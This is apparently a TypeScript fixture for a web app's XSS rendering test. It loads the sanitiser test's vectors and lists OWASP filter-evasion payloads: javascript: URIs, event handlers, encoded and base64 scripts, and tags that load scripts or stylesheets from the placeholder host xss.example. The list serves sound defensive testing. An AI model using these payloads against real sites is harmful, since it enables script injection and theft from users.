/**
 * XSS payloads for the notice rendering test (specs/notice-xss.spec.ts): the 71 vectors the
 * server's sanitiser test runs (packages/server/test/notice/notice-sanitize.test.ts), then the
 * classic filter-evasion list (OWASP's XSS Filter Evasion Cheat Sheet). `armed` makes each one
 * also set window.__xss to its own mark when it runs, so a payload that ran is seen even where
 * alert is silenced.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';

/**
 * The server sanitiser test's vectors, read from the file that test reads, so that the stored
 * HTML and its rendering are tested against one list.
 */
export const SANITIZER_VECTORS: readonly string[] = JSON.parse(
  readFileSync(
    path.join(__dirname, '..', '..', 'packages', 'server', 'test', 'notice', 'xss-vectors.json'),
    'utf8',
  ),
) as string[];

/** OWASP's filter-evasion vectors beside the ones above; foreign hosts are *.example. */
export const EVASION_VECTORS: readonly string[] = [
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC= onmouseover="alert(1)">',
  '<IMG onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC="jav&#x0D;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<IMG LOWSRC="javascript:alert(1)">',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.example/xss.js?< B >',
  '<SCRIPT SRC=//xss.example/.j>',
  '<IMG SRC="`<javascript:alert>`(1)"',
  '<iframe src=http://xss.example/scriptlet.html <',
  '\\";alert(1);//',
  '</TITLE><SCRIPT>alert(1);</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<BODY ONLOAD=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<BGSOUND SRC="javascript:alert(1);">',
  '<BR SIZE="&{alert(1)}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<LINK REL="stylesheet" HREF="http://xss.example/xss.css">',
  "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
  '<STYLE TYPE="text/javascript">alert(1);</STYLE>',
  '<STYLE>.XSS{background-image:url("javascript:alert(1)");}</STYLE><A CLASS=XSS></A>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(1);">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
  '<iframe srcdoc="<script>parent.alert(1);parent.__xss=1</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(1));">',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
  '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg=="></object>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=javascript&#58;alert(1)>x</a>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<p style="background:url(http://xss.example/bg.png)">x</p>',
];

/** A payload that, when it runs, also sets window.__xss (besides calling alert). */
export function armed(vector: string, mark: number): string {
  // A bare number: it needs no quotes and holds no space, so it fits any spot the payload's own
  // call sits in (an unquoted attribute, a quoted string).
  return vector.replace(/alert\(([^()]*)\)/g, `alert($1),window.__xss=${mark}`);
}
